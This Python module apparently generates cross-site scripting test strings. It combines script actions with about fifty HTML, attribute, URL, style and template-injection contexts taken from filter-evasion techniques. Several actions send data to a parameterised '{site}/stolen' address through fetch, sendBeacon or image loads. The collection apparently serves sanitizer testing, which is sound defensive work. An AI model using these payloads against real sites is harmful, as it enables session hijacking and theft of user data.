"""What strangers type to run something of theirs: scripts, by combination.

After OWASP's cheat sheet on filter evasion: each context that HTML, attributes, URLs,
styles and templates offer, with each thing that a script would do.
"""

from itertools import product

ACTIONS = (
    "alert(1)",
    "fetch('{site}/stolen')",
    "confirm(1)",
    "new Image().src='{site}/stolen'",
    "prompt(1)",
    "location='{site}/stolen'",
    "navigator.sendBeacon('{site}/stolen')",
    "print()",
)
CONTEXTS = (
    "<script>{action}</script>",
    '"><script>{action}</script>',
    '\'><img src=x onerror="{action}">',
    "<svg onload={action}>",
    "</textarea><script>{action}</script>",
    "</title><script>{action}</script>",
    "</style></script><script>{action}</script>",
    '" autofocus onfocus="{action}',
    "' autofocus onfocus='{action}",
    '<a href="javascript:{action}">click</a>',
    "<iframe srcdoc='<script>{action}</script>'></iframe>",
    "<img src={site}/stolen.png>",
    "<link rel=stylesheet href={site}/stolen.css>",
    "<style>@import '{site}/stolen.css';</style>",
    "<div style=\"background:url('{site}/stolen.png')\">x</div>",
    "<meta http-equiv=refresh content='0;url={site}/stolen'>",
    "<base href='{site}/stolen/'>",
    "<iframe src={site}/stolen></iframe>",
    "<details open ontoggle={action}>",
    "<input autofocus onfocus={action}>",
    "<video><source onerror={action}></video>",
    "<object data='{site}/stolen'></object>",
    "<embed src='{site}/stolen'>",
    "<form action='{site}/stolen'><button autofocus>go</button></form>",
    "<svg><script>{action}</script></svg>",
    "<svg><animate onbegin={action} attributeName=x dur=1s>",
    "<math><mtext><style><img src=x onerror={action}></style></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror={action}>'></noscript>",
    "--><script>{action}</script><!--",
    "]]><script>{action}</script>",
    "&lt;script&gt;{action}&lt;/script&gt;",
    "&#60;script&#62;{action}&#60;/script&#62;",
    "\\u003cscript\\u003e{action}\\u003c/script\\u003e",
    "＜script＞{action}＜/script＞",
    "<scr<script>ipt>{action}</scr</script>ipt>",
    "<ScRiPt/x>{action}</sCrIpT\t>",
    "<IMG SRC=x:x OnErRoR\n=\n{action}>",
    "<a href='jav&#x09;ascript:{action}'>click</a>",
    "<a href='data:text/html,<script>{action}</script>'>click</a>",
    '<t t-out="{action}"/><t t-call="web.login"/>',
    "{{{{ object.env.cr.execute('SELECT 1') or \"<script>{action}</script>\" }}}}",
    '{{{{constructor.constructor("{action}")()}}}}',
    "${{{action}}}",
    "<body onload={action} onpageshow={action}>",
    "<marquee onstart={action}>x</marquee>",
    "<img src=`x` onerror={action}//",
    '<p style="x:expression({action})">x</p>',
    "javascript:/*--></title></style></textarea></script><svg/onload={action}//>",
    "<template><script>{action}</script></template><x onclick={action} tabindex=1>",
    "<xss id=x style=transition:outline ontransitionend={action} tabindex=1>",
)


def get_scripts(count, site):
    """Return so many different texts; the first ones hold every context.

    :param int count: how many; all of them are 300
    :param str site: address of a server that must not be asked for anything
    """
    pairs = sorted(
        product(range(len(ACTIONS)), range(len(CONTEXTS))),
        key=lambda pair: ((pair[0] - pair[1]) % len(ACTIONS), pair[1]),
    )
    texts = [
        CONTEXTS[context].format(action=ACTIONS[action].format(site=site), site=site)
        for action, context in pairs
    ]
    return list(dict.fromkeys(texts))[:count]
